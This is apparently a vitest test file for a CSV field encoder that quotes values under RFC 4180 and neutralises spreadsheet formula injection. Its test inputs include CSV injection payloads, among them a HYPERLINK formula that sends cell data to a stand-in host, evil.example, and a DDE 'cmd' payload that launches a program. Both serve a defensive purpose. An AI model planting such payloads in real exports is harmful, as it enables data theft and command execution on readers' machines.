import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField } from '../../src/domain/csv-field.js';

/** One CSV field: RFC 4180 quoting, and no cell a spreadsheet would run as a formula (OWASP "CSV Injection"). */
describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rlf', '"cr\rlf"'],
    ['', ''],
    [null, ''],
    [12.5, '12.5'],
    [-12.5, '-12.5'],
    ['a=b', 'a=b'],
    ['meter-7', 'meter-7'],
  ] as const)('RFC 4180: %j → %j', (value, csv) => {
    expect(csvField(value)).toBe(csv);
  });

  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1+1', `"'+1+1"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['-12.5', `"'-12.5"`],
  ] as const)('a cell starting a formula is written as text: %j → %j', (value, csv) => {
    expect(csvField(value)).toBe(csv);
  });

  it('reads back as the text with a leading quote, in its own cell, whatever separators the text holds', () => {
    const line = ['=1+1,=2+2', '@x', 'ok'].map(csvField).join(',');
    expect(parse(line)).toEqual([["'=1+1,=2+2", "'@x", 'ok']]);
  });
});
